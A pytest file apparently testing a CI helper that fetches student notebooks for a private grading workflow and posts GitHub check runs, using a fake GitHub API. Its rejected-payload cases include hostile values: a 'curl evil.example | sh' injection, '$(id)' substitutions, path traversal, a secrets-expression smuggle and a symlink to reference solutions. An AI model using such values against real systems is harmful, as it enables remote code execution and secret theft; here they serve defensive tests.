"""docs/ci/hidden_grading.py, the helper of the private grading workflow, against a stand-in for GitHub's REST API
on the loopback interface: what a dispatch may ask for, what gets fetched, and what is posted back.

The helper runs as the workflow runs it: a child process, configured by the workflow file's own env: block, the
event in a file, outputs appended to $GITHUB_OUTPUT.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from paths import EXAMPLES, ROOT

yaml = pytest.importorskip("yaml")

HELPER = ROOT / "docs" / "ci" / "hidden_grading.py"
WORKFLOW_ENV = yaml.safe_load((ROOT / "docs" / "ci" / "hidden-grading.yml").read_text())["env"]
APP = "course-grader"
TOKEN = "ghs_test_token"
HEAD = "a" * 40
OLD = "b" * 40
NOTEBOOK = (EXAMPLES / "wrong_backprop_notebook.ipynb").read_bytes()


@dataclass
class Repo:
    head: str = HEAD
    branch: str = "main"
    file: bytes | None = NOTEBOOK
    kind: str = "file"
    size: int | None = None
    pushed_at: str = "2030-01-01T00:00:00Z"
    runs: list[dict[str, Any]] = field(default_factory=list)


class FakeGitHub:
    """Answers the endpoints the helper uses from ``repos``; records every request (with the raw, quoted path)."""

    def __init__(self) -> None:
        self.repos: dict[str, Repo] = {}
        self.listed: list[str] = []  # what /installation/repositories shows, beyond self.repos
        self.requests: list[dict[str, Any]] = []
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                self._answer(*fake.answer("GET", self.path, self.headers.get("Accept", ""), None, self.headers))

            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self._answer(*fake.answer("POST", self.path, "", body, self.headers))

            def _answer(self, status: int, data: bytes) -> None:
                self.send_response(status)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()  # quick shutdown

    def answer(self, method: str, raw: str, accept: str, body: Any, headers: Any) -> tuple[int, bytes]:
        self.requests.append({"method": method, "path": raw, "auth": headers.get("Authorization"), "body": body,
                              "accept": accept})
        parsed = urllib.parse.urlsplit(raw)
        query = dict(urllib.parse.parse_qsl(parsed.query))
        parts = [urllib.parse.unquote(p) for p in parsed.path.strip("/").split("/")]
        if parts == ["installation", "repositories"]:
            names = [*self.repos, *self.listed]
            page = names[(int(query["page"]) - 1) * 100:int(query["page"]) * 100]
            return self._json({"repositories": [
                {"full_name": n, "pushed_at": self.repos[n].pushed_at if n in self.repos else None} for n in page]})
        if len(parts) < 3 or parts[0] != "repos" or f"{parts[1]}/{parts[2]}" not in self.repos:
            return 404, b'{"message": "Not Found"}'
        repo, rest = self.repos[f"{parts[1]}/{parts[2]}"], parts[3:]
        if not rest:
            return self._json({"default_branch": repo.branch})
        if rest == ["commits", repo.branch]:
            return self._json({"sha": repo.head})
        if len(rest) == 3 and rest[0] == "commits" and rest[2] == "check-runs":
            runs = [r for r in repo.runs if r["name"] == query.get("check_name")]
            return self._json({"total_count": len(runs), "check_runs": runs})
        if rest[0] == "contents" and query.get("ref") == repo.head and repo.file is not None:
            if "raw" in accept:
                return 200, repo.file
            return self._json({"type": repo.kind, "size": repo.size or len(repo.file), "name": rest[1]})
        if rest == ["check-runs"] and method == "POST":
            return 201, b'{"id": 1}'
        return 404, b'{"message": "Not Found"}'

    @staticmethod
    def _json(data: Any) -> tuple[int, bytes]:
        return 200, json.dumps(data).encode()

    def posted(self) -> list[dict[str, Any]]:
        return [r["body"] for r in self.requests if r["method"] == "POST"]


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    fake = FakeGitHub()
    yield fake
    fake.server.shutdown()
    fake.server.server_close()


def helper(github: FakeGitHub, tmp: Path, *args: str, event: Any = None, event_name: str = "repository_dispatch",
           **env: str) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    """Run the helper as the workflow does; returns the process and what it wrote to $GITHUB_OUTPUT."""
    (tmp / "event.json").write_text(json.dumps(event if event is not None else {}))
    output = tmp / "github_output"
    output.write_text("")
    full = {"PATH": os.environ["PATH"], **{k: str(v) for k, v in WORKFLOW_ENV.items()},
            "GITHUB_API_URL": github.url, "GH_TOKEN": TOKEN, "APP_SLUG": APP,
            "GITHUB_REPOSITORY": "my-course/grading", "GITHUB_REPOSITORY_OWNER": "my-course",
            "GITHUB_EVENT_NAME": event_name, "GITHUB_EVENT_PATH": str(tmp / "event.json"),
            "GITHUB_OUTPUT": str(output), **env}
    done = subprocess.run([sys.executable, str(HELPER), *args], env=full, capture_output=True, text=True,
                          timeout=120, cwd=tmp)
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
    return done, outputs


def dispatch(repository: Any, sha: Any, **extra: Any) -> dict[str, Any]:
    return {"action": "grade", "client_payload": {"repository": repository, "sha": sha, **extra}}


ALICE = "my-course/shallow-nn-alice"


def test_a_dispatch_for_the_pushed_head_fetches_that_one_file(github, tmp_path):
    github.repos[ALICE] = Repo()
    done, out = helper(github, tmp_path, "plan", "--out", "plan", event=dispatch(ALICE, HEAD))
    assert done.returncode == 0, done.stderr
    slug = f"shallow-nn-alice-{HEAD[:12]}"
    assert out == {"count": "1", "slugs": json.dumps([slug]), "repositories": "shallow-nn-alice"}
    assert (tmp_path / "plan" / "submissions" / slug / "shallow_nn.ipynb").read_bytes() == NOTEBOOK
    assert json.loads((tmp_path / "plan" / "targets.json").read_text()) == [
        {"repository": ALICE, "sha": HEAD, "slug": slug, "problem": ""}]
    assert {r["method"] for r in github.requests} == {"GET"}
    assert all(r["auth"] == f"Bearer {TOKEN}" for r in github.requests)


@pytest.mark.parametrize("payload", [
    dispatch("my-course/shallow-nn-alice; curl evil.example | sh", HEAD),
    dispatch("my-course/shallow-nn-alice$(id)", HEAD),
    dispatch("other-course/shallow-nn-alice", HEAD),
    dispatch("my-course/other-assignment-alice", HEAD),
    dispatch("my-course/shallow-nn-alice/../../grader", HEAD),
    dispatch("my-course/shallow-nn-alice", HEAD[:7]),
    dispatch("my-course/shallow-nn-alice", HEAD.upper()),
    dispatch("my-course/shallow-nn-alice", HEAD + "\n"),
    dispatch("my-course/shallow-nn-alice", "${{ secrets.GRADER_APP_PRIVATE_KEY }}"),
    dispatch(["my-course/shallow-nn-alice"], HEAD),
    dispatch("my-course/shallow-nn-alice", HEAD, ref="refs/heads/main"),
    {"client_payload": "my-course/shallow-nn-alice"},
    {},
], ids=lambda p: json.dumps(p.get("client_payload"))[:50])
def test_a_bad_payload_is_refused_before_any_request(github, tmp_path, payload):
    github.repos[ALICE] = Repo()
    done, out = helper(github, tmp_path, "plan", "--out", "plan", event=payload)
    assert done.returncode == 0, done.stderr
    assert "nothing to grade" in done.stderr
    assert out["count"] == "0" and out["slugs"] == "[]"
    assert github.requests == []
    assert not (tmp_path / "plan" / "submissions").exists()


@pytest.mark.parametrize("repository", ["my-course/grader", "my-course/grading", "MY-COURSE/Grader"])
def test_the_course_repositories_are_never_targets_even_under_a_loose_pattern(github, tmp_path, repository):
    github.repos["my-course/grader"] = Repo()
    done, out = helper(github, tmp_path, "plan", "--out", "plan", event=dispatch(repository, HEAD),
                       STUDENT_REPOS="(?i)my-course/.+")
    assert out["count"] == "0" and "course's own repositories" in done.stderr
    assert github.requests == []


def test_a_commit_that_is_not_the_head_of_the_default_branch_is_not_graded(github, tmp_path):
    github.repos[ALICE] = Repo()
    done, out = helper(github, tmp_path, "plan", "--out", "plan", event=dispatch(ALICE, OLD))
    assert out["count"] == "0" and "is not the head" in done.stderr
    assert not any("contents" in r["path"] for r in github.requests)


def test_only_the_apps_own_check_run_counts_as_already_graded(github, tmp_path):
    forged = {"name": "hidden checks", "app": {"slug": "github-actions"}, "conclusion": "success"}
    github.repos[ALICE] = Repo(runs=[forged])
    _, out = helper(github, tmp_path, "plan", "--out", "plan", event=dispatch(ALICE, HEAD))
    assert out["count"] == "1"  # the student's own "hidden checks" run does not stop the grading
    github.repos[ALICE].runs.append({"name": "hidden checks", "app": {"slug": APP}, "conclusion": "neutral"})
    _, out = helper(github, tmp_path, "plan", "--out", "again", event=dispatch(ALICE, HEAD))
    assert out["count"] == "0"


def test_a_symlink_a_missing_file_and_an_oversized_one_become_notices(github, tmp_path):
    github.repos["my-course/shallow-nn-link"] = Repo(kind="symlink", file=b"../grader/reference/shallow-nn/x.py")
    github.repos["my-course/shallow-nn-none"] = Repo(file=None)
    github.repos["my-course/shallow-nn-huge"] = Repo(size=51 * 2**20)
    done, out = helper(github, tmp_path, "plan", "--out", "plan", event_name="schedule")
    assert done.returncode == 0, done.stderr
    assert out["count"] == "3" and out["slugs"] == "[]"
    problems = {t["repository"]: t["problem"] for t in json.loads((tmp_path / "plan" / "targets.json").read_text())}
    assert "is symlink, not a regular file" in problems["my-course/shallow-nn-link"]
    assert "There is no shallow_nn.ipynb" in problems["my-course/shallow-nn-none"]
    assert "larger than 50 MB" in problems["my-course/shallow-nn-huge"]
    assert not (tmp_path / "plan" / "submissions").exists()
    downloads = [r["path"] for r in github.requests if "raw" in r["accept"]]
    assert downloads == []  # neither the link nor the oversized file was downloaded


def test_the_schedule_takes_recent_pushes_and_quotes_branch_names(github, tmp_path):
    hostile = "x/../../y?z#w $(id)"
    github.repos["my-course/shallow-nn-bob"] = Repo(branch=hostile)
    github.repos["my-course/shallow-nn-old"] = Repo(pushed_at="2000-01-01T00:00:00Z")
    github.repos["my-course/website"] = Repo()
    github.listed = [f"my-course/other-{i}" for i in range(150)]  # a second page of the listing
    done, out = helper(github, tmp_path, "plan", "--out", "plan", event_name="schedule")
    assert done.returncode == 0, done.stderr
    assert out["repositories"] == "shallow-nn-bob"
    paths = [r["path"] for r in github.requests]
    assert "/repos/my-course/shallow-nn-bob/commits/x%2F..%2F..%2Fy%3Fz%23w%20%24%28id%29" in paths
    assert not any("shallow-nn-old/commits" in p or "website/" in p for p in paths)
    assert sum(p.startswith("/installation/repositories") for p in paths) == 2


def _plan(tmp: Path, *targets: dict[str, str]) -> Path:
    path = tmp / "targets.json"
    path.write_text(json.dumps(list(targets)))
    return path


def _result(results: Path, slug: str, score: float, report: str) -> None:
    folder = results / slug / "shallow_nn"
    folder.mkdir(parents=True)
    (folder / "results.json").write_text(json.dumps({"score": score, "max_score": 10.0}))
    (folder / "report.md").write_text(report)


def test_report_posts_one_check_run_per_target(github, tmp_path):
    for name in ("full", "part", "lost", "none", "long"):
        github.repos[f"my-course/shallow-nn-{name}"] = Repo()
    targets = [{"repository": f"my-course/shallow-nn-{n}", "sha": HEAD, "slug": f"shallow-nn-{n}-{HEAD[:12]}"}
               for n in ("full", "part", "lost", "none", "long")]
    targets[3]["problem"] = "There is no shallow_nn.ipynb in this commit."
    results = tmp_path / "results"
    _result(results, targets[0]["slug"], 10.0, "# All good")
    _result(results, targets[1]["slug"], 7.5, "# Feedback\nbackward_propagation: dW1 is wrong")
    _result(results, targets[4]["slug"], 2.0, "line\n" * 50_000)
    done, _ = helper(github, tmp_path, "report", "--plan", str(_plan(tmp_path, *targets)), "--results",
                     str(results))
    assert done.returncode == 0, done.stderr
    posted = {r["path"].split("/")[3]: r["body"] for r in github.requests if r["method"] == "POST"}
    assert set(posted) == {f"shallow-nn-{n}" for n in ("full", "part", "lost", "none", "long")}
    assert all(b["head_sha"] == HEAD and b["name"] == "hidden checks" and b["status"] == "completed"
               for b in posted.values())
    assert (posted["shallow-nn-full"]["conclusion"], posted["shallow-nn-full"]["output"]["title"]) == (
        "success", "10 / 10 points")
    assert posted["shallow-nn-part"]["conclusion"] == "neutral"
    assert posted["shallow-nn-part"]["output"] == {"title": "7.5 / 10 points",
                                                   "summary": "# Feedback\nbackward_propagation: dW1 is wrong"}
    assert posted["shallow-nn-lost"]["output"]["title"] == "Grading did not finish"
    assert posted["shallow-nn-none"]["conclusion"] == "failure"
    assert posted["shallow-nn-none"]["output"]["summary"] == targets[3]["problem"]
    long = posted["shallow-nn-long"]["output"]["summary"]
    assert len(long) < 65_535 and long.endswith("*(The report is longer; this is its beginning.)*")


def test_report_refuses_a_tampered_plan_and_posts_nothing(github, tmp_path):
    plan = _plan(tmp_path, {"repository": "other-course/x", "sha": HEAD, "slug": "x"})
    done, _ = helper(github, tmp_path, "report", "--plan", str(plan), "--results", str(tmp_path))
    assert done.returncode == 1 and "is not a list of targets" in done.stderr
    assert "Traceback" not in done.stderr and github.requests == []


def test_plan_grade_report_end_to_end(github, tmp_path):
    """The three jobs in turn: the real grader grades what the helper fetched, and the verdict is posted."""
    github.repos[ALICE] = Repo()
    done, out = helper(github, tmp_path, "plan", "--out", "plan", event=dispatch(ALICE, HEAD))
    assert done.returncode == 0, done.stderr
    slug = json.loads(out["slugs"])[0]
    graded = subprocess.run([sys.executable, "-m", "grader.cli", "run", f"plan/submissions/{slug}/shallow_nn.ipynb",
                             "--assignment", "shallow-nn", "--out", f"results/{slug}", "--jobs", "1", "--quiet"],
                            cwd=tmp_path, env={**os.environ, "GRADER_ROOT": str(ROOT)}, capture_output=True,
                            text=True, timeout=300)
    assert graded.returncode == 0, graded.stdout + graded.stderr
    done, _ = helper(github, tmp_path, "report", "--plan", "plan/targets.json", "--results", "results")
    assert done.returncode == 0, done.stderr
    [body] = github.posted()
    assert body["head_sha"] == HEAD and body["conclusion"] == "neutral"
    assert body["output"]["title"] == "7.5 / 10 points"
    assert "backward_propagation" in body["output"]["summary"]
